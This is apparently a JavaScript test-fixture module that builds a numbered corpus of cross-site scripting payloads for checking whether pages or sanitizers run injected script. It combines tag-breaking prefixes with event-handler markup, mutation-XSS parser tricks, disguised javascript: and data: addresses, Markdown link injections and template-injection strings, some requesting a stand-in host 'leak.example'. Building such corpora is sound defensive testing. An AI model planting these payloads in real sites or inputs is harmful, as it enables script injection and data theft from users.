/**
 * Texts that would run a script, or ask another host for something, if a page took them for markup, an address or a template
 * anywhere. Each is a payload behind the end of a place that it could stand in. Each carries its number, by which a test knows
 * which one did something, and which ones a page shows.
 */

/** Asked for by those that want to leave; nobody has it. */
export const OUTSIDE = 'leak.example'

/** Ends of places in a page: what stands before a payload to break out of there. */
const ENDS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>']

/** Markup that runs `ran(n)`, or asks `out` for something, as soon as it is in a page. */
const MARKUP = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt/x>${run}</ScRiPt >`,
  (_, out) => `<script src=${out}></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<IMG """><img/src=x/onerror="${run}">`,
  (_, out) => `<img src=${out}>`,
  (_, out) => `<img srcset="${out} 1x">`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (_, out) => `<svg><image href=${out}></svg>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (_, out) => `<video poster=${out}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, out) => `<iframe src=${out}></iframe>`,
  (_, out) => `<object data=${out}></object>`,
  (_, out) => `<embed src=${out}>`,
  (_, out) => `<link rel=stylesheet href=${out}>`,
  (_, out) => `<style>@import "${out}";</style>`,
  (_, out) => `<div style="background:url(${out})">x</div>`,
  (_, out) => `<table background=${out}><td>x</table>`,
  (_, out) => `<body background=${out}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<x id=x tabindex=1 style=animation:spin\t1s onanimationstart=${run}>`,
  // What a parser that cleans makes of these is not what a browser makes of them.
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
]

/** Schemes of addresses that run something, disguised or not. */
const ADDRESSES = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>opener.${run}</script>`,
  (run) =>
    `data:text/html;base64,${Buffer.from(`<script>opener.${run}</script>`).toString('base64')}`,
  (_, out) => `//${out.split('//')[1]}`,
  (_, out) => `/\\${out.split('//')[1]}`,
]

/** Places that an address can stand in, in Markdown and in markup. */
const LINKS = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
]

/** Templates, and markup that has to be decoded before it is some. */
const DISGUISES = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `'-${run}-'`,
  (run) => `";${run};//`,
  (run) => `\`;${run};\``,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<<img src=x onerror=${run}>>`,
  (run) => `__proto__[onload]=${run}`,
  (run) => `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  (run) => `![x"onerror="${run}](x)`,
  (run) => `[x](/ "x"onmouseover="${run}")`,
  (run) => `| <img src=x onerror=${run}> |\n| --- |\n| x |`,
  (run) => `$$\\href{javascript:${run}}{x}$$`,
]

const forms = [
  ...ENDS.flatMap((end) => MARKUP.map((payload) => (run, out) => end + payload(run, out))),
  ...LINKS.flatMap((link) => ADDRESSES.map((address) => (run, out) => link(address(run, out)))),
  ...DISGUISES,
]

/** All of them: the text, and what is seen of it where it is shown as text. */
export const vectors = forms.map((form, n) => {
  const run = `ran(${n})`
  const out = `https://${OUTSIDE}/${n}`
  return { n, text: form(run, out) }
})

/** Of each payload the one that stands alone, for fields that hold little. */
export const plain = vectors.filter(
  ({ n }) => n < MARKUP.length || n >= forms.length - DISGUISES.length,
)

/** In the fewest texts of at most so many characters. */
export function packed(some, longest, between = '\n\n') {
  const packs = []
  for (const { text } of some) {
    const joined = packs.length === 0 ? text : packs.at(-1) + between + text
    if (packs.length > 0 && joined.length <= longest) packs[packs.length - 1] = joined
    else packs.push(text)
  }
  return packs
}

/** The same for fields of one line, without those that are too long for it. */
export const inLines = (some, longest) =>
  packed(
    some.filter(({ text }) => text.length <= longest && !/[\n\t]/.test(text)),
    longest,
    ' ',
  )
